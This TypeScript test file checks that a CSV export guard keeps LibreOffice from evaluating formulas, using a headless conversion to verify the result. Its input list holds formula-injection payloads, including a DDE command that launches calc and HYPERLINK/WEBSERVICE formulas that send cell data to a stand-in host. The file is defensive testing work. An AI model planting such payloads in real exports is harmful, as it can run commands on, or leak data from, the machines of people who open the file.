import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Parser } from 'htmlparser2';
import { eventWriter, unguardText, type EventRecord } from '../../src/model/index.js';

/** Every way into a formula, and whatever else a spreadsheet could get wrong. */
const TEXTS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'],
  ...["'=1+1", "''=1+1", "' =1+1", "'plain", "it's"],
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.test/?"&A1,"click")', '=WEBSERVICE("http://example.test/")'],
  ...['a"b', '"', '""', 'a,b', 'a;b', 'a\tb', 'one\ntwo', 'one\r\ntwo', 'one\rtwo', 'a\0b', ' lead', 'trail '],
  ...['\u202Eabc', 'שלום', '🙂', '{"a":"=1"}', 'x'.repeat(32_768), `=${'y'.repeat(40_000)}`],
];
/** What a spreadsheet takes for a number or a date unless it is told that quoted cells are text. */
const NUMBERLIKE = ['007', '1e5', '9007199254740993', '2026-01-01', '1/2', 'TRUE', '-5', '+5'];

interface Cell {
  text: string;
  formula: string | undefined;
}

describe('LibreOffice', () => {
  let folder: string;
  before(() => {
    folder = mkdtempSync(join(tmpdir(), 'csv-'));
  });
  after(() => rmSync(folder, { recursive: true, force: true }));

  /** Opens a CSV of one column as LibreOffice does, as UTF-8, and gives its cells back. */
  async function opened(texts: readonly string[], guard: boolean, quotedAsText: boolean): Promise<Cell[]> {
    const writer = await eventWriter({ format: 'csv', columns: ['text'], bom: true, guard });
    const csv = writer.head() + [...writer.lines(texts.map(text => ({ text }) as unknown as EventRecord))].join('');
    writeFileSync(join(folder, 'in.csv'), csv);
    // Comma, quote, UTF-8, from line 1, formats left alone, language, quoted as text, detect numbers as a person's default does.
    const filter = `CSV:44,34,76,1,,0,${quotedAsText},${!quotedAsText}`;
    const home = `-env:UserInstallation=file://${join(folder, 'profile')}`;
    const convert = [
      '--headless',
      '--convert-to',
      'fods',
      `--infilter=${filter}`,
      '--outdir',
      folder,
      join(folder, 'in.csv'),
    ];
    execFileSync('soffice', [home, ...convert], { stdio: 'ignore', timeout: 120_000 });
    return cellsOf(readFileSync(join(folder, 'in.fods'), 'utf8')).slice(1);
  }

  /** As a spreadsheet has them: all line ends are one, and what cannot be in a cell has its own sign. */
  const inCell = (text: string): string => text.replace(/\r\n?/g, '\n').replaceAll('\0', '\u2400');

  it('runs no formula of a guarded file, whatever is chosen when opening it, and keeps every cell', async () => {
    for (const quotedAsText of [false, true]) {
      const cells = await opened(TEXTS, true, quotedAsText);
      assert.equal(cells.length, TEXTS.length);
      cells.forEach(({ text, formula }, i) => {
        assert.equal(formula, undefined, JSON.stringify(TEXTS[i]!.slice(0, 40)));
        assert.equal(unguardText(text), inCell(TEXTS[i]!));
      });
    }
  });

  it('shows each cell exactly as it was, with nothing in front, when told to take quoted cells as text', async () => {
    const texts = [...TEXTS, ...NUMBERLIKE];
    const cells = await opened(texts, false, true);
    assert.equal(cells.length, texts.length);
    cells.forEach(({ text, formula }, i) => {
      assert.equal(formula, undefined);
      assert.equal(text, inCell(texts[i]!));
    });
  });

  it('would run them without the guard: so the first test can fail', async () => {
    const cells = await opened(['=1+1'], false, false);
    assert.equal(cells[0]!.text, '2');
  });
});

/** The first cell of each row of a flat OpenDocument sheet. */
function cellsOf(xml: string): Cell[] {
  const cells: Cell[] = [];
  let cell: Cell | undefined;
  let inText = 0;
  let paragraphs = 0;
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (name === 'table:table-row') cell = undefined;
        if (name === 'table:table-cell' && !cell) {
          cell = { text: '', formula: attributes['table:formula'] };
          cells.push(cell);
          paragraphs = 0;
        }
        if (!cell) return;
        if (name === 'text:p') {
          if (inText === 0 && paragraphs > 0) cell.text += '\n';
          paragraphs += 1;
          inText += 1;
        }
        if (name === 'text:s') cell.text += ' '.repeat(Number(attributes['text:c'] ?? 1));
        if (name === 'text:tab') cell.text += '\t';
        if (name === 'text:line-break') cell.text += '\n';
      },
      ontext(text) {
        if (cell && inText > 0) cell.text += text;
      },
      onclosetag(name) {
        if (name === 'text:p' && cell) inText -= 1;
      },
    },
    { xmlMode: true, decodeEntities: true },
  );
  parser.end(xml);
  return cells;
}
